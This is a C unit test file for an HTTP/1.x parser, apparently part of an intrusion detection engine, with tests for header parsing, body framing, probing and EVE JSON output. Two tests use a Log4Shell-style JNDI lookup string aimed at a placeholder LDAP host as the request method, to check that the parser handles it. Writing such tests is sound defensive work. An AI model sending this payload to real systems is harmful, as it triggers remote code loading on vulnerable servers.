/* test_http.c -- HTTP/1.x head parsing, body framing and the EVE http object.
 * Expected values are read off the literal messages by hand. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "app/http.h"
#include "output/eve_app.h"

#define U8(s) ((const uint8_t *)(s))

static void assert_span(http_span_t s, const char *want)
{
    assert_non_null(s.p);
    assert_int_equal(s.len, strlen(want));
    assert_memory_equal(s.p, want, s.len);
}

static const char GET_REQ[] = "GET /index.html?q=1 HTTP/1.1\r\n"
                              "Host: www.example.com\r\n"
                              "User-Agent: curl/7.88.1\r\n"
                              "Accept: */*\r\n"
                              "Referer: http://ref.example/\r\n"
                              "Cookie: a=b\r\n"
                              "\r\n";

static void test_simple_get(void **state)
{
    (void)state;
    http_request_t r;
    size_t n = strlen(GET_REQ);
    assert_int_equal(http_parse_request(U8(GET_REQ), n, &r), APP_PARSE_DONE);
    assert_span(r.method, "GET");
    assert_span(r.uri, "/index.html?q=1");
    assert_span(r.protocol, "HTTP/1.1");
    assert_span(r.host, "www.example.com");
    assert_span(r.user_agent, "curl/7.88.1");
    assert_span(r.referer, "http://ref.example/");
    assert_span(r.cookie, "a=b");
    assert_int_equal(r.content_type.len, 0);
    assert_false(r.has_content_length);
    assert_false(r.chunked);
    assert_int_equal(r.head_len, n);

    http_span_t host;
    int32_t port;
    assert_true(http_request_host(&r, &host, &port));
    assert_span(host, "www.example.com");
    assert_int_equal(port, -1);

    http_body_t b;
    http_body_request(&b, &r);
    assert_int_equal(b.kind, HTTP_BODY_NONE);
}

static void test_header_case_and_port(void **state)
{
    (void)state;
    const char *req = "POST /up HTTP/1.0\r\n"
                      "hOsT:   Example.COM.:8080  \r\n"
                      "USER-agent:\tUA/1\r\n"
                      "content-LENGTH: 12\r\n"
                      "Content-Type: text/plain\r\n"
                      "\r\n";
    http_request_t r;
    assert_int_equal(http_parse_request(U8(req), strlen(req), &r), APP_PARSE_DONE);
    assert_span(r.host, "Example.COM.:8080");
    assert_span(r.user_agent, "UA/1");
    assert_span(r.content_type, "text/plain");
    assert_true(r.has_content_length);
    assert_int_equal(r.content_length, 12);
    http_span_t host;
    int32_t port;
    assert_true(http_request_host(&r, &host, &port));
    assert_span(host, "Example.COM"); /* trailing dot dropped; lowercased by the app layer */
    assert_int_equal(port, 8080);
    http_body_t b;
    http_body_request(&b, &r);
    assert_int_equal(b.kind, HTTP_BODY_LENGTH);
    assert_int_equal(b.left, 12);
}

static void test_absolute_uri_host(void **state)
{
    (void)state;
    const char *req = "GET http://user@proxy.test:3128/x HTTP/1.1\r\nHost: other\r\n\r\n";
    http_request_t r;
    assert_int_equal(http_parse_request(U8(req), strlen(req), &r), APP_PARSE_DONE);
    http_span_t host;
    int32_t port;
    assert_true(http_request_host(&r, &host, &port));
    assert_span(host, "proxy.test");
    assert_int_equal(port, 3128);

    const char *v6 = "GET / HTTP/1.1\r\nHost: [2001:db8::1]:81\r\n\r\n";
    assert_int_equal(http_parse_request(U8(v6), strlen(v6), &r), APP_PARSE_DONE);
    assert_true(http_request_host(&r, &host, &port));
    assert_span(host, "[2001:db8::1]");
    assert_int_equal(port, 81);

    const char *none = "GET / HTTP/1.1\r\n\r\n";
    assert_int_equal(http_parse_request(U8(none), strlen(none), &r), APP_PARSE_DONE);
    assert_false(http_request_host(&r, &host, &port));
}

static void test_bare_lf_and_fold(void **state)
{
    (void)state;
    const char *req = "GET /a HTTP/1.0\n"
                      "User-Agent: first\n"
                      "  folded continuation\n"
                      "NoColonLine\n"
                      "Host: h\n"
                      "\n";
    http_request_t r;
    assert_int_equal(http_parse_request(U8(req), strlen(req), &r), APP_PARSE_DONE);
    assert_span(r.user_agent, "first");
    assert_span(r.host, "h");
    assert_int_equal(r.head_len, strlen(req));
}

static void test_pipelined_three(void **state)
{
    (void)state;
    const char *buf = "GET /1 HTTP/1.1\r\nHost: a\r\n\r\n"
                      "GET /2 HTTP/1.1\r\nHost: b\r\n\r\n"
                      "\r\n" /* stray CRLF between requests is tolerated */
                      "HEAD /3 HTTP/1.1\r\nHost: c\r\n\r\n";
    const char *uris[] = {"/1", "/2", "/3"}, *hosts[] = {"a", "b", "c"};
    size_t off = 0, len = strlen(buf);
    for (int i = 0; i < 3; i++) {
        http_request_t r;
        assert_int_equal(http_parse_request(U8(buf) + off, len - off, &r), APP_PARSE_DONE);
        assert_span(r.uri, uris[i]);
        assert_span(r.host, hosts[i]);
        off += r.head_len;
    }
    assert_int_equal(off, len);
}

static void test_split_every_offset(void **state)
{
    (void)state;
    size_t n = strlen(GET_REQ);
    for (size_t i = 0; i < n; i++) {
        /* A copy of exactly i bytes, so a read past it would be caught by ASan. */
        uint8_t *part = malloc(i ? i : 1);
        memcpy(part, GET_REQ, i);
        http_request_t r;
        assert_int_equal(http_parse_request(part, i, &r), APP_PARSE_MORE);
        assert_int_equal(http_find_head_end(part, i, 0), 0);
        free(part);
    }
    assert_int_equal(http_find_head_end(U8(GET_REQ), n, 0), n);
    /* Resuming the scan from any earlier point finds the same end. */
    for (size_t from = 0; from + 3 < n; from++)
        assert_int_equal(http_find_head_end(U8(GET_REQ), n, from), n);
}

static void test_too_long_head(void **state)
{
    (void)state;
    size_t cap = HTTP_MAX_HEAD + 64;
    char *buf = malloc(cap);
    strcpy(buf, "GET / HTTP/1.1\r\nX-Pad: ");
    size_t n = strlen(buf);
    memset(buf + n, 'a', cap - n);
    http_request_t r;
    /* Still under the bound without an end: wait for more. */
    assert_int_equal(http_parse_request(U8(buf), HTTP_MAX_HEAD - 1, &r), APP_PARSE_MORE);
    /* At the bound without an end: give up. */
    assert_int_equal(http_parse_request(U8(buf), HTTP_MAX_HEAD, &r), APP_PARSE_ERROR);
    /* Ending just past the bound is too long as well. */
    memcpy(buf + HTTP_MAX_HEAD - 3, "\r\n\r\n", 4);
    assert_int_equal(http_parse_request(U8(buf), HTTP_MAX_HEAD + 1, &r), APP_PARSE_ERROR);
    /* Ending exactly at the bound is fine. */
    memcpy(buf + HTTP_MAX_HEAD - 4, "\r\n\r\n", 4);
    assert_int_equal(http_parse_request(U8(buf), HTTP_MAX_HEAD, &r), APP_PARSE_DONE);
    assert_int_equal(r.head_len, HTTP_MAX_HEAD);
    free(buf);
}

static void test_garbage(void **state)
{
    (void)state;
    http_request_t q;
    http_response_t s;
    const char *bad_req[] = {
        "FOO BAR\r\n\r\n",           /* no protocol */
        "GET /\r\n\r\n",             /* HTTP/0.9 is not parsed */
        "GET / SIP/2.0\r\n\r\n",     /* not HTTP */
        " GET / HTTP/1.1\r\n\r\n",   /* leading space */
        "GET  HTTP/1.1\r\n\r\n",     /* no URI */
        "G\x01T / HTTP/1.1\r\n\r\n", /* control byte in the method */
        "GET / HTTP/1.1\r\nContent-Length: 1x\r\n\r\n",
        "GET / HTTP/1.1\r\nContent-Length: 1234567890123456789\r\n\r\n",
        "\x16\x03\x01\x02\x05\x01\x07\n\n",
    };
    for (size_t i = 0; i < sizeof(bad_req) / sizeof(bad_req[0]); i++)
        assert_int_equal(http_parse_request(U8(bad_req[i]), strlen(bad_req[i]), &q),
                         APP_PARSE_ERROR);
    const char *bad_resp[] = {
        "HTTP/1.1 abc OK\r\n\r\n", "HTTP/1.1 20 OK\r\n\r\n", "HTTP/1.1 2000 OK\r\n\r\n",
        "HTTP/1.1 099 X\r\n\r\n",  "ICY 200 OK\r\n\r\n",
    };
    for (size_t i = 0; i < sizeof(bad_resp) / sizeof(bad_resp[0]); i++)
        assert_int_equal(http_parse_response(U8(bad_resp[i]), strlen(bad_resp[i]), &s),
                         APP_PARSE_ERROR);
    /* Binary without a line end just waits (bounded by HTTP_MAX_HEAD). */
    assert_int_equal(http_parse_request(U8("\x00\x01\x02"), 3, &q), APP_PARSE_MORE);
}

static void test_response_head(void **state)
{
    (void)state;
    const char *resp = "HTTP/1.1 302 Found\r\n"
                       "Location: https://example.com/new\r\n"
                       "Content-Type: text/html; charset=UTF-8\r\n"
                       "Content-Length: 5\r\n"
                       "\r\n"
                       "hello";
    http_response_t r;
    assert_int_equal(http_parse_response(U8(resp), strlen(resp), &r), APP_PARSE_DONE);
    assert_span(r.protocol, "HTTP/1.1");
    assert_int_equal(r.status, 302);
    assert_span(r.reason, "Found");
    assert_span(r.location, "https://example.com/new");
    assert_span(r.content_type, "text/html; charset=UTF-8");
    assert_true(r.has_content_length);
    assert_int_equal(r.content_length, 5);
    assert_int_equal(r.head_len, strlen(resp) - 5);

    const char *noreason = "HTTP/1.0 200\n\n";
    assert_int_equal(http_parse_response(U8(noreason), strlen(noreason), &r), APP_PARSE_DONE);
    assert_int_equal(r.status, 200);
    assert_int_equal(r.reason.len, 0);
}

/* Chunked body (with extension and trailer) followed by the next response:
 * "Wiki" + "pedia" = 9 data bytes. */
static const char CHUNKED[] = "4\r\nWiki\r\n5;ext=1\r\npedia\r\n0\r\nX-Trailer: t\r\n\r\n";
static const char NEXT[] = "HTTP/1.1 200 OK\r\n\r\n";

static void test_chunked_then_next(void **state)
{
    (void)state;
    char buf[128];
    snprintf(buf, sizeof(buf), "%s%s", CHUNKED, NEXT);
    http_response_t r;
    const char *head = "HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, Chunked\r\n"
                       "Content-Length: 99\r\n\r\n";
    assert_int_equal(http_parse_response(U8(head), strlen(head), &r), APP_PARSE_DONE);
    assert_true(r.chunked);
    assert_false(r.has_content_length); /* chunked wins */

    /* All at once. */
    http_body_t b;
    http_body_response(&b, &r, false);
    assert_int_equal(b.kind, HTTP_BODY_CHUNKED);
    size_t used;
    assert_int_equal(http_body_feed(&b, U8(buf), strlen(buf), &used), APP_PARSE_DONE);
    assert_int_equal(used, strlen(CHUNKED));
    assert_int_equal(b.seen, 9);
    http_response_t r2;
    assert_int_equal(http_parse_response(U8(buf) + used, strlen(buf) - used, &r2), APP_PARSE_DONE);
    assert_int_equal(r2.status, 200);

    /* One byte at a time: the size lines are parsed incrementally. */
    http_body_response(&b, &r, false);
    size_t total = 0;
    app_parse_t st = APP_PARSE_MORE;
    for (size_t i = 0; i < strlen(buf) && st == APP_PARSE_MORE; i++) {
        st = http_body_feed(&b, U8(buf) + i, 1, &used);
        total += used;
    }
    assert_int_equal(st, APP_PARSE_DONE);
    assert_int_equal(total, strlen(CHUNKED));
    assert_int_equal(b.seen, 9);
}

static void test_chunked_bare_lf_and_errors(void **state)
{
    (void)state;
    http_response_t r;
    memset(&r, 0, sizeof(r));
    r.status = 200;
    r.chunked = true;
    http_body_t b;
    size_t used;
    const char *lf = "3\nabc\n0\n\n";
    http_body_response(&b, &r, false);
    assert_int_equal(http_body_feed(&b, U8(lf), strlen(lf), &used), APP_PARSE_DONE);
    assert_int_equal(used, strlen(lf));
    assert_int_equal(b.seen, 3);

    const char *bad[] = {"x\r\n", "\r\n", "3\r\nabcX", "1234567890abcdef0\r\n", ";\r\n"};
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        http_body_response(&b, &r, false);
        assert_int_equal(http_body_feed(&b, U8(bad[i]), strlen(bad[i]), &used), APP_PARSE_ERROR);
    }
}

static void test_no_body_cases(void **state)
{
    (void)state;
    http_response_t r;
    http_body_t b;
    const char *cl = "HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n";
    assert_int_equal(http_parse_response(U8(cl), strlen(cl), &r), APP_PARSE_DONE);
    http_body_response(&b, &r, true); /* answer to HEAD */
    assert_int_equal(b.kind, HTTP_BODY_NONE);
    http_body_response(&b, &r, false);
    assert_int_equal(b.kind, HTTP_BODY_LENGTH);
    size_t used;
    assert_int_equal(http_body_feed(&b, U8("0123456789NEXT"), 14, &used), APP_PARSE_DONE);
    assert_int_equal(used, 10);
    assert_int_equal(b.seen, 10);

    const char *nm = "HTTP/1.1 304 Not Modified\r\nContent-Length: 10\r\n\r\n";
    assert_int_equal(http_parse_response(U8(nm), strlen(nm), &r), APP_PARSE_DONE);
    http_body_response(&b, &r, false);
    assert_int_equal(b.kind, HTTP_BODY_NONE);
    const char *nc = "HTTP/1.1 204 No Content\r\n\r\n";
    assert_int_equal(http_parse_response(U8(nc), strlen(nc), &r), APP_PARSE_DONE);
    http_body_response(&b, &r, false);
    assert_int_equal(b.kind, HTTP_BODY_NONE);
    const char *cont = "HTTP/1.1 100 Continue\r\n\r\n";
    assert_int_equal(http_parse_response(U8(cont), strlen(cont), &r), APP_PARSE_DONE);
    http_body_response(&b, &r, false);
    assert_int_equal(b.kind, HTTP_BODY_NONE);
    const char *close = "HTTP/1.0 200 OK\r\n\r\n";
    assert_int_equal(http_parse_response(U8(close), strlen(close), &r), APP_PARSE_DONE);
    http_body_response(&b, &r, false);
    assert_int_equal(b.kind, HTTP_BODY_CLOSE);
    assert_int_equal(http_body_feed(&b, U8("abc"), 3, &used), APP_PARSE_MORE);
    assert_int_equal(b.seen, 3);
}

static void test_body_skip(void **state)
{
    (void)state;
    http_response_t r;
    memset(&r, 0, sizeof(r));
    r.status = 200;
    r.has_content_length = true;
    r.content_length = 100;
    http_body_t b;
    http_body_response(&b, &r, false);
    assert_true(http_body_skip(&b, 40));
    assert_int_equal(b.left, 60);
    assert_false(http_body_skip(&b, 61));
    assert_true(http_body_skip(&b, 60));
    assert_int_equal(b.left, 0);
    assert_int_equal(b.seen, 100);
    r.chunked = true;
    http_body_response(&b, &r, false);
    assert_false(http_body_skip(&b, 1)); /* in a size line: framing lost */
}

/* An attack string in the method position parses, the method as libhtp
 * takes it (up to the first space). */
static void test_unlisted_method(void **state)
{
    (void)state;
    const char *req = "${jndi:ldap://203.0.113.9/a} /x HTTP/1.1\r\nHost: h\r\n\r\n";
    http_request_t r;
    assert_int_equal(http_parse_request(U8(req), strlen(req), &r), APP_PARSE_DONE);
    assert_span(r.method, "${jndi:ldap://203.0.113.9/a}");
    assert_span(r.uri, "/x");
    assert_span(r.host, "h");
}

static void test_probe(void **state)
{
    (void)state;
    assert_true(http_probe_request(U8("GET / HTTP/1.1"), 14));
    assert_true(http_probe_request(U8("OPTIONS * HTTP/1.1"), 18));
    assert_true(http_probe_request(U8("GET"), 3)); /* could still be "GET " */
    assert_false(http_probe_request(U8("GEX"), 3));
    assert_false(http_probe_request(U8("get / HTTP/1.1"), 14));
    assert_false(http_probe_request(U8("SSH-2.0-OpenSSH"), 15));
    /* unlisted methods: only as a whole request line ending in HTTP/1.x */
    const char *jndi = "${jndi:ldap://203.0.113.9/a} / HTTP/1.1\r\nHost: x\r\n\r\n";
    assert_true(http_probe_request(U8(jndi), strlen(jndi)));
    assert_true(http_probe_request(U8("X / HTTP/1.0\n"), 13));
    assert_false(http_probe_request(U8("X / HTTP/1.1"), 12));     /* line not complete */
    assert_false(http_probe_request(U8("X / HTTP/2.0\r\n"), 14)); /* not HTTP/1.x */
    assert_false(http_probe_request(U8("X HTTP/1.1\r\n"), 12));   /* no target */
    assert_false(http_probe_request(U8("X\x01 / HTTP/1.1\r\n"), 16));
    assert_true(http_probe_response(U8("HTTP/1.1 200 OK"), 15));
    assert_false(http_probe_response(U8("HTTP/2"), 6));
    assert_true(http_probe_response(U8("HTTP/1"), 6));
    assert_false(http_probe_response(U8("HTTP/1.1"), 0));
}

static app_str_t s(const char *p)
{
    app_str_t v = {p, (uint32_t)strlen(p)};
    return v;
}

static void test_eve_http(void **state)
{
    (void)state;
    http_tx_t tx;
    memset(&tx, 0, sizeof(tx));
    tx.hostname = s("www.example.com");
    tx.http_port = 8080;
    tx.url = s("/a?b=\"c\"");
    tx.method = s("GET");
    tx.protocol = s("HTTP/1.1");
    tx.user_agent = s("curl/7.88.1");
    tx.referer = s("http://r/");
    tx.content_type = s("text/html; charset=UTF-8");
    tx.redirect = s("https://x/");
    tx.status = 301;
    tx.length = 1234;
    tx.has_request = tx.has_response = true;
    jw_t w;
    jw_init(&w);
    jw_object_open(&w);
    eve_app_http(&w, &tx);
    jw_object_close(&w);
    assert_string_equal(w.buf, "{\"http\":{\"hostname\":\"www.example.com\",\"http_port\":8080,"
                               "\"url\":\"/a?b=\\\"c\\\"\",\"http_user_agent\":\"curl/7.88.1\","
                               "\"http_content_type\":\"text/html\",\"http_refer\":\"http://r/\","
                               "\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":301,"
                               "\"redirect\":\"https://x/\",\"length\":1234}}");

    /* A request without response: no status, length 0, absent fields omitted. */
    memset(&tx, 0, sizeof(tx));
    tx.http_port = -1;
    tx.url = s("/");
    tx.method = s("POST");
    tx.has_request = true;
    jw_reset(&w);
    jw_object_open(&w);
    eve_app_http(&w, &tx);
    jw_object_close(&w);
    assert_string_equal(w.buf, "{\"http\":{\"url\":\"/\",\"http_method\":\"POST\",\"length\":0}}");
    jw_free(&w);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_simple_get),
        cmocka_unit_test(test_header_case_and_port),
        cmocka_unit_test(test_absolute_uri_host),
        cmocka_unit_test(test_bare_lf_and_fold),
        cmocka_unit_test(test_pipelined_three),
        cmocka_unit_test(test_split_every_offset),
        cmocka_unit_test(test_too_long_head),
        cmocka_unit_test(test_garbage),
        cmocka_unit_test(test_response_head),
        cmocka_unit_test(test_chunked_then_next),
        cmocka_unit_test(test_chunked_bare_lf_and_errors),
        cmocka_unit_test(test_no_body_cases),
        cmocka_unit_test(test_body_skip),
        cmocka_unit_test(test_probe),
        cmocka_unit_test(test_unlisted_method),
        cmocka_unit_test(test_eve_http),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
